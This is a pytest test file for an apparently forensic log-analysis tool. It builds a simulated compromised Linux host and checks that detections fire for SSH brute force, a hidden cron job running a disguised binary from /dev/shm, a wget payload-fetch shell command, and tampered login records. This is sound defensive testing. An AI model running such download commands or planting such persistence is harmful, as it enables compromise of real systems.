"""Every host-log detection on a small compromised root built from tests/data/logs/host."""

from __future__ import annotations

import calendar
import struct
from pathlib import Path

import pytest

from breachkit.findings import Finding, Severity
from breachkit.logs import analyze
from breachkit.logs.run import LogsResult
from breachkit.sources import RootSource
from tests.artifacts.conftest import put

DATA = Path(__file__).resolve().parent.parent / "data" / "logs" / "host"
MARCH_8 = calendar.timegm((2026, 3, 8, 0, 0, 0))
PASSWD = (
    b"root:x:0:0:root:/root:/bin/bash\n"
    b"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
    b"anna:x:1000:1000::/home/anna:/bin/bash\n"
)
SYSLOG = (
    b"2026-03-06T10:00:00+00:00 db02 systemd[1]: Started cron.service\n"
    b"2026-03-06T11:00:00+00:00 db02 CRON[5]: (www-data) CMD (cd /var/www && php cron.php)\n"
    b"2026-03-07T03:00:00+00:00 db02 CRON[6]: (www-data) CMD (/dev/shm/.k/kworker >/dev/null 2>&1)\n"
    b"2026-03-07T03:05:00+00:00 db02 CRON[7]: (www-data) CMD (/dev/shm/.k/kworker >/dev/null 2>&1)\n"
)


def _utmp(user: bytes, host: bytes, seconds: int) -> bytes:
    return struct.pack(
        "<hxxi32s4s32s256shhiii16s20x", 7, 1, b"pts/0", b"ts/0", user, host, 0, 0, 0, seconds, 0, b"\0" * 16
    )


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> LogsResult:
    root = tmp_path_factory.mktemp("host") / "root"
    put(root, "/etc/timezone", b"Etc/UTC\n")
    put(root, "/etc/passwd", PASSWD)
    put(root, "/var/log/auth.log", (DATA / "auth.log").read_bytes(), mtime=MARCH_8)
    put(root, "/var/log/syslog", SYSLOG)
    put(root, "/var/log/dpkg.log", (DATA / "dpkg.log").read_bytes())
    put(root, "/var/log/audit/audit.log", (DATA / "audit.log").read_bytes())
    put(root, "/home/anna/.bash_history", (DATA / "bash_history").read_bytes())
    lastlog = bytearray(292 * 34)
    lastlog[33 * 292 :] = struct.pack("<i32s256s", MARCH_8 - 3600, b"pts/2", b"203.0.113.50")
    put(root, "/var/log/lastlog", bytes(lastlog))
    put(
        root,
        "/var/log/wtmp",
        _utmp(b"anna", b"192.0.2.10", MARCH_8 - 86400) + b"\0" * 384 + _utmp(b"root", b"", MARCH_8),
    )
    source = RootSource(str(root))
    try:
        return analyze(source, fallback_ns=MARCH_8 * 10**9)
    finally:
        source.close()


def _finding(result: LogsResult, check: str) -> Finding:
    found = [f for f in result.findings if f.check == check]
    assert found, f"{check} not reported; got {[f.check for f in result.findings]}"
    return found[0]


def test_ssh_and_account_detections(result: LogsResult) -> None:
    after = _finding(result, "logs.ssh-success-after-failures")
    assert after.severity == Severity.HIGH and after.evidence[0].line == 9
    assert "after 3 failed attempts" in (after.evidence[0].note or "")
    assert _finding(result, "logs.root-login").evidence[0].line == 13
    assert _finding(result, "logs.privilege-granted").evidence[0].line == 12
    assert _finding(result, "logs.account-changes").evidence[0].line == 11
    assert _finding(result, "logs.service-account-privilege").evidence[0].line == 14
    new_source = _finding(result, "logs.login-new-source")
    assert [e.line for e in new_source.evidence] == [9]
    odd_hour = _finding(result, "logs.login-unusual-hour")
    assert [e.line for e in odd_hour.evidence] == [9]
    assert _finding(result, "logs.time-backwards").evidence[0].path == "/var/log/auth.log"


def test_host_log_detections(result: LogsResult) -> None:
    cron = _finding(result, "logs.cron-suspicious-job")
    assert len(cron.evidence) == 1 and "2 run(s)" in (cron.evidence[0].note or "")
    assert _finding(result, "logs.history-download-execute").evidence[0].line == 4
    assert _finding(result, "logs.history-anti-forensics").evidence[0].line == 6
    assert _finding(result, "logs.offensive-packages").evidence[0].line == 1
    assert _finding(result, "logs.logging-removed").evidence[0].line == 2
    audit = _finding(result, "logs.audit-service-shell")
    assert audit.evidence[0].excerpt == "sh -c wget http://198.51.100.23/b"
    assert "203.0.113.50" in (_finding(result, "logs.lastlog-service-account").evidence[0].note or "")
    tampered = _finding(result, "logs.login-records-tampered")
    assert "offset 384" in (tampered.evidence[0].note or "")
    gap = _finding(result, "logs.time-gap")
    assert ("/var/log/syslog", 3) in [(e.path, e.line) for e in gap.evidence]


def test_every_event_source_counted(result: LogsResult) -> None:
    assert result.by_source == {
        "auth": 15,
        "syslog": 1,
        "cron": 3,
        "wtmp": 2,
        "lastlog": 1,
        "audit": 2,
        "shell-history": 4,
        "dpkg": 3,
        "web-access": 0,
    }
